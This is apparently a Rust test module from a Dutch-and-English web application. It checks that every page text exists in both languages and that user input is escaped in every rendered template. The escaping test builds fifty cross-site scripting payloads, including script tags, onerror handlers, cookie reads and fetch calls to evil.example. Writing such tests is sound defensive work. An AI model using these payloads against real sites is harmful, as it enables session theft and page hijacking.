//! Texts of pages, and what people may fill in without it becoming part of a page.

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};

use askama::Template;

use super::fields::{ContactText, PersonText};
use super::page::{Failure, Page, PageError, Place};
use crate::texts::{Language, t};

fn files(dir: &str, ending: &str) -> Vec<PathBuf> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join(dir);
    let files = fs::read_dir(&dir).unwrap().map(|entry| entry.unwrap().path());
    files.filter(|file| file.extension().is_some_and(|found| found == ending)).collect()
}

/// What stands between a call's opening quotes and the next.
fn named(text: &str, call: &str) -> Vec<String> {
    text.split(call).skip(1).filter_map(|rest| rest.split('"').next()).map(str::to_owned).collect()
}

/// Ids of texts that templates and page handlers name, those for one and for several under their common part.
fn used() -> BTreeSet<String> {
    let mut used = BTreeSet::new();
    for file in files("templates", "html").into_iter().chain(files("src/pages", "rs")) {
        let text = fs::read_to_string(&file).unwrap();
        for call in [".t(\"", ".with(\"", ".with2(\"", "page.function(\""] {
            used.extend(named(&text, call));
        }
        used.extend(named(&text, ".count(\"").into_iter().map(|id| format!("{id}-one")));
        if file.extension().is_some_and(|ending| ending == "html") {
            let macros = ["field", "date", "select"];
            let calls = macros.iter().flat_map(|name| {
                text.split(&format!("{{% call forms::{name}(page, ")).skip(1).collect::<Vec<_>>()
            });
            for call in calls {
                let quoted: Vec<_> = call.split(")%}").next().unwrap_or(call).split('"').collect();
                used.extend(
                    quoted.get(3).map(|label| (*label).to_owned()).filter(|label| label.contains('-')),
                );
            }
        } else {
            // Keys on their way to a text: they look like nothing else in these files.
            let prefixes = [
                "wrong-",
                "said-",
                "now-",
                "says-",
                "row-",
                "conflict",
                "menu-",
                "state-",
                "role-",
                "progress-",
                "lead-",
                "import-why-",
                "import-lacks-",
                "import-file-",
            ];
            let quoted = text.split('"').skip(1).step_by(2);
            let keys = quoted.filter(|text| prefixes.iter().any(|prefix| text.starts_with(prefix)));
            used.extend(
                keys.filter(|key| !key.contains(['{', ' ', '/']))
                    .filter(|key| !key.ends_with('-'))
                    .map(str::to_owned),
            );
        }
    }
    used
}

#[test]
fn every_text_that_a_page_shows_is_there_in_both_languages() {
    let used = used();
    assert!(used.len() > 250, "{} texts", used.len());
    for id in &used {
        for language in [Language::Dutch, Language::English] {
            let plural = format!("{id}-one");
            let there = t(language, id, &[]) != *id || t(language, &plural, &[]) != plural;
            assert!(there, "{id} is no text ({})", language.tag());
        }
    }
}

/// Fifty ways to make a page do something else than show a text.
fn payloads() -> Vec<String> {
    let acts = [
        "alert(1)",
        "fetch('//evil.example')",
        "document.cookie",
        "top.location='//evil.example'",
        "eval(name)",
    ];
    let shapes = [
        "<script>§</script>",
        "\"><script>§</script>",
        "'><img src=x onerror=§>",
        "</title><svg onload=§>",
        "\" onmouseover=\"§\" x=\"",
        "' autofocus onfocus='§",
        "</textarea><body onload=§>",
        "<a href=\"javascript:§\">x</a>",
        "<!--><iframe srcdoc='<script>§</script>'>",
        "{{ § }}${§}<%= § %>",
    ];
    let all = shapes.iter().flat_map(|shape| acts.iter().map(move |act| shape.replace('§', act)));
    all.collect()
}

/// How many characters of each kind that means something in HTML there are.
fn marks(html: &str) -> [usize; 4] {
    ['<', '>', '"', '\''].map(|mark| html.matches(mark).count())
}

fn page(text: &str) -> Page {
    Page {
        organisation: text.to_owned(),
        name: Some(text.to_owned()),
        csrf: text.to_owned(),
        path: text.to_owned(),
        // Of one field; the others show what their pages hold.
        typed: Some(vec![("reference".to_owned(), text.to_owned())]),
        places: vec![Place { path: "/", text: "menu-overview" }],
        errors: vec![PageError { field: text.to_owned(), text: text.to_owned() }],
        development: true,
        ..Page::default()
    }
}

/// Every template that shows what somebody filled in, rendered with this text in every field.
fn everything(text: &str) -> Vec<String> {
    let failure = Failure {
        page: page(text),
        title: "failed-title",
        text: "failed-text",
        detail: Some(text.to_owned()),
    };
    let mut all = vec![failure.render().unwrap()];
    all.extend(super::overview::rendered(page(text), text));
    all.extend(super::new_signal::rendered(&|| page(text), text));
    all.extend(super::signal::rendered(&|| page(text), text));
    all.extend(super::notice::rendered(page(text), text));
    all.extend(super::notice_acts::rendered(&|| page(text), text));
    all.extend(super::staff::rendered(&|| page(text), text));
    all.extend(super::access::rendered(&|| page(text), text));
    all.extend(super::team::rendered(page(text), text));
    all.extend(super::absence::rendered(page(text), text));
    all.extend(super::account::rendered(page(text), text));
    all.extend(super::import::rendered(page(text), text));
    all.extend(super::oversight::rendered(&|| page(text), text));
    all
}

#[test]
fn nothing_that_is_filled_in_becomes_part_of_the_page() {
    let payloads = payloads();
    assert_eq!(payloads.len(), 50);
    let harmless: Vec<_> = everything("Anna").iter().map(|html| marks(html)).collect();
    assert!(harmless.len() > 18);
    for payload in payloads {
        for (index, html) in everything(&payload).iter().enumerate() {
            assert_eq!(marks(html), harmless[index], "{payload} in template {index}: {html}");
        }
    }
}

/// Somebody and something, each field with this text.
pub(super) fn filled(text: &str) -> (PersonText, ContactText) {
    let mut person = PersonText::nobody();
    for field in [
        &mut person.role,
        &mut person.bsn,
        &mut person.given_names,
        &mut person.name_prefix,
        &mut person.family_name,
        &mut person.birth.day,
        &mut person.birth.month,
        &mut person.birth.year,
        &mut person.postal_code,
        &mut person.house_number,
        &mut person.house_number_suffix,
    ] {
        text.clone_into(field);
    }
    let text = || text.to_owned();
    (person, ContactText { name: text(), function: text(), phone: text(), email: text() })
}
